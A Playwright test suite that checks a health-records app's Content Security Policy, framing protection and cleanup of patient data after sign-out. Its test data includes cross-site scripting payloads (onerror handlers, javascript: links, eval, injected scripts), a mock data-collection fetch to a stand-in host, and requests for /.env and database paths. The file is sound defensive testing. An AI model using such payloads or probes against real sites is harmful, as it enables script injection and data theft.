// What the headers are for, seen by its effect: nothing that was smuggled into a page runs, nobody frames it, nothing leaves for elsewhere,
// and nothing of a record stays behind. Where it can be, the same attack is run without the header, to see that it would have worked.

import assert from "node:assert/strict";
import { readFileSync, readdirSync } from "node:fs";
import { createServer } from "node:http";
import { join } from "node:path";
import { test } from "node:test";
import { chromium } from "playwright-core";
import { LAUNCH, REFUSALS, enter, heading, place, signIn } from "./support/browser.mjs";
import { folder } from "./support/careway.mjs";
import { reader } from "./support/journey.mjs";
import { INES } from "./support/record.mjs";
import { en } from "./support/words.mjs";

const { careway, visit, who } = reader();

/// A site that is not ours.
const ELSEWHERE = "https://elsewhere.example";

/// What the policy stops is what these tests are about.
const ATTACKED = {
  expects: [
    ...REFUSALS,
    /policy: /,
    /Content Security Policy|Trusted(HTML|Script|ScriptURL|Type| Type)|violates the following/i,
    /^asked https:\/\/elsewhere\.example/,
  ],
};

/// Puts markup at the end of the page that the server sends; `policy` false takes the policy away.
async function smuggle(page, markup, policy) {
  await page.route(url => url.pathname === "/", async route => {
    const response = await route.fetch();
    const headers = { ...response.headers() };
    if (!policy) delete headers["content-security-policy"];
    const body = (await response.text()).replace("</body>", `${markup}</body>`);
    assert.ok(body.includes(markup));
    await route.fulfill({ response, headers, body });
  });
  await page.goto("/");
  await page.locator("form[data-bound]").waitFor();
}

const SMUGGLED = {
  "an inline script": "<script>globalThis.ran = true</script>",
  "an inline handler": `<img src="/nothing-here.png" onerror="globalThis.ran = true" alt="">`,
  "a style of its own": `<p id="styled" style="color: rgb(1, 2, 3)">text</p>`,
  "a frame": `<iframe srcdoc="<p>framed</p>" onload="globalThis.ran = true"></iframe>`,
};

for (const [name, markup] of Object.entries(SMUGGLED)) {
  test(`${name} in the page does nothing, and would without the policy`, async t => {
    const effect = page => page.evaluate(() => {
      const styled = document.getElementById("styled");
      return globalThis.ran === true || (styled !== null && getComputedStyle(styled).color === "rgb(1, 2, 3)");
    });
    for (const policy of [true, false]) {
      const page = await visit(t, ATTACKED);
      await smuggle(page, markup, policy);
      // A picture that is not there has failed by the time that the page counts as loaded.
      await page.waitForLoadState("load");
      assert.equal(await effect(page), !policy, policy ? "it ran" : "the attack is none");
    }
  });
}

/// What a script that is on the page already can do; evaluated later, since the browser lets its driver evaluate anything at once.
const TRIED = {
  "eval": () => globalThis.eval("1 + 1"),
  "a new function": () => new Function("return 2")(),
  "a timer of text": () => {
    globalThis.ticked = false;
    setTimeout("globalThis.ticked = true", 0);
    return new Promise((resolve, reject) => setTimeout(() => (globalThis.ticked ? resolve() : reject(new Error("nothing ticked"))), 50));
  },
  "markup with a handler": () => {
    document.body.insertAdjacentElement("beforeend", document.createElement("div")).innerHTML = "<img src=x onerror=globalThis.ran=true>";
  },
  "markup with a script": () => document.body.insertAdjacentHTML("beforeend", "<script>globalThis.ran=true</script>"),
  "markup with an address that runs": () => document.body.insertAdjacentHTML("beforeend", `<a href="javascript:globalThis.ran=true">x</a>`),
  "markup with a style": () => document.body.insertAdjacentHTML("beforeend", `<p style="color:red">x</p>`),
  "a script element with text": () => {
    document.body.appendChild(document.createElement("script")).textContent = "globalThis.ran = true";
    if (globalThis.ran !== true) throw new Error("it did not run");
  },
  "a script from elsewhere": () => new Promise((resolve, reject) => {
    const script = document.createElement("script");
    Object.assign(script, { onload: resolve, onerror: reject });
    script.src = `${globalThis.elsewhere}/script.js`;
    document.body.append(script);
  }),
  "a call elsewhere": () => fetch(`${globalThis.elsewhere}/collect`, { mode: "no-cors" }),
  "a picture from elsewhere": () => new Promise((resolve, reject) => {
    Object.assign(new Image(), { onload: resolve, onerror: reject, src: `${globalThis.elsewhere}/pixel.svg` });
  }),
  "a worker": () => new Worker("/worker.js"),
  "a policy of its own": () => globalThis.trustedTypes.createPolicy("mine", { createHTML: html => html }),
};

/// Another site, played by the driver: it answers whatever reaches it, and remembers what that was.
async function another(page) {
  const asked = [];
  await page.route(`${ELSEWHERE}/**`, route => {
    asked.push(route.request().url());
    const isPicture = route.request().url().endsWith(".svg");
    const body = isPicture ? `<svg xmlns="http://www.w3.org/2000/svg" width="1" height="1"/>` : "";
    return route.fulfill({ contentType: isPicture ? "image/svg+xml" : "text/javascript", headers: { "access-control-allow-origin": "*" }, body });
  });
  return asked;
}

for (const policy of [true, false]) {
  test(`a script that is on the page already ${policy ? "cannot bring in another" : "could bring in another without the policy"}`, async t => {
    const page = await visit(t, ATTACKED);
    const asked = await another(page);
    await smuggle(page, "", policy);
    await page.evaluate(origin => (globalThis.elsewhere = origin), ELSEWHERE);
    for (const [name, attempt] of Object.entries(TRIED)) {
      const outcome = await page.evaluate(`new Promise(done => setTimeout(async () => {
        try { await (${attempt})(); done("worked"); } catch (error) { done(String(error?.message ?? error?.type)); }
      }))`);
      assert.equal(outcome === "worked", !policy, `${name}: ${outcome}`);
    }
    assert.equal(await page.evaluate(() => globalThis.ran === true), !policy);
    assert.equal(asked.length, policy ? 0 : 3, `reached: ${asked}`);
  });
}

test("another site cannot frame the page", async t => {
  const server = createServer((request, response) => {
    const framing = `<!doctype html><title>frames</title><iframe src="/inner"></iframe><iframe src="${careway.origin}/"></iframe>`;
    response.setHeader("content-type", "text/html").end(request.url === "/inner" ? "<p>inner</p>" : framing);
  });
  await new Promise(resolve => server.listen(0, "127.0.0.1", resolve));
  t.after(() => server.close());
  const elsewhere = `http://127.0.0.1:${server.address().port}`;
  const page = await visit(t, { expects: [...ATTACKED.expects, /Refused to (display|frame)|asked/] }, elsewhere);
  await page.goto(elsewhere);
  const [, inner, framed] = page.frames();
  assert.equal(await inner.locator("p").innerText(), "inner");
  assert.match(framed.url(), /^chrome-error:/);
  assert.equal(await framed.getByText(en("sign-in-title")).count(), 0);
});

test("a file that is not there is not there", async () => {
  for (const path of ["/assets.js", "/boot.js.map", "/results/old.css", "/.env", "/careway.sqlite"]) {
    const response = await fetch(careway.origin + path);
    assert.equal(response.status, 404, path);
    assert.doesNotMatch(response.headers.get("content-type") ?? "", /html/, path);
  }
});

/// Signs in and looks at everything there is.
async function wander(page) {
  await enter(page, who);
  await heading(page, en("home-greeting", { name: "Inés" })).waitFor();
  await place(page, en("place-results"));
  await page.getByRole("searchbox").fill("vitamin");
  await page.getByText("One fits.").waitFor();
  await page.getByRole("link", { name: /^Vitamin D/ }).click();
  await heading(page, "Vitamin D").waitFor();
  await place(page, en("place-record"));
  const links = page.getByRole("main").getByRole("listitem").getByRole("link");
  await links.first().waitFor();
  const kinds = await links.evaluateAll(links => links.map(link => link.getAttribute("href")));
  for (const href of kinds) {
    await page.locator(`main a[href="${href}"]`).click();
    await page.getByRole("main").getByRole("listitem").first().getByRole("link").click();
    await page.locator("main dl").first().waitFor();
    await page.goBack();
    await page.getByRole("main").getByRole("listitem").first().waitFor();
    await page.goBack();
    await heading(page, en("record-title")).waitFor();
  }
  await page.getByRole("link", { name: en("frame-account") }).click();
  await heading(page, en("account-title")).waitFor();
  return kinds.length;
}

test("a whole visit breaks no rule of the policy, complains of nothing and asks nobody else", async t => {
  const page = await visit(t);
  assert.ok((await wander(page)) >= 20);
});

test("after signing out nothing of the record is left in the page, its stores or its cache", async t => {
  const page = await visit(t, { expects: REFUSALS });
  const asked = new Set();
  page.on("request", request => request.method() === "GET" && request.url().includes("/api/") && asked.add(request.url()));
  await wander(page);
  await page.getByRole("button", { name: en("account-sign-out"), exact: true }).click();
  await page.getByText(en("sign-in-out"), { exact: true }).waitFor();
  const left = await page.evaluate(async asked => ({
    local: localStorage.length,
    session: sessionStorage.length,
    databases: (await indexedDB.databases()).length,
    caches: (await caches.keys()).length,
    workers: (await navigator.serviceWorker.getRegistrations()).length,
    text: document.documentElement.outerHTML.includes("Calloway") || document.documentElement.outerHTML.includes("Vitamin"),
    cached: (await Promise.all(asked.map(async url => {
      const response = await fetch(url, { cache: "only-if-cached", mode: "same-origin" }).catch(() => null);
      return response?.ok ? url : null;
    }))).filter(Boolean),
  }), [...asked]);
  assert.ok(asked.size > 20);
  assert.deepEqual(left, { local: 0, session: 0, databases: 0, caches: 0, workers: 0, text: false, cached: [] });
  const cookies = await page.context().cookies();
  assert.deepEqual(cookies.map(cookie => cookie.name).filter(name => name.includes("sid")), []);
});

test("nothing of the record is written to the disk of a shared computer", async t => {
  const profile = folder("profile");
  const context = await chromium.launchPersistentContext(profile, { ...LAUNCH, baseURL: careway.origin, locale: "en-US" });
  t.after(() => context.close());
  const page = await context.newPage();
  await page.goto("/");
  await signIn(page, who);
  await heading(page, en("home-greeting", { name: "Inés" })).waitFor();
  await place(page, en("place-results"));
  await page.getByText("Troponin I").waitFor();
  await context.close();
  const entries = readdirSync(profile, { recursive: true, withFileTypes: true }).filter(entry => entry.isFile());
  const files = entries.map(entry => readFileSync(join(entry.parentPath ?? entry.path, entry.name)));
  const holding = canary => files.filter(bytes => [Buffer.from(canary), Buffer.from(canary, "utf16le")].some(text => bytes.includes(text)));
  // The address is remembered, so the search does find what is written.
  assert.notEqual(holding("localhost").length, 0);
  for (const canary of ["Troponin I", INES.name, who.password]) assert.equal(holding(canary).length, 0, canary);
});
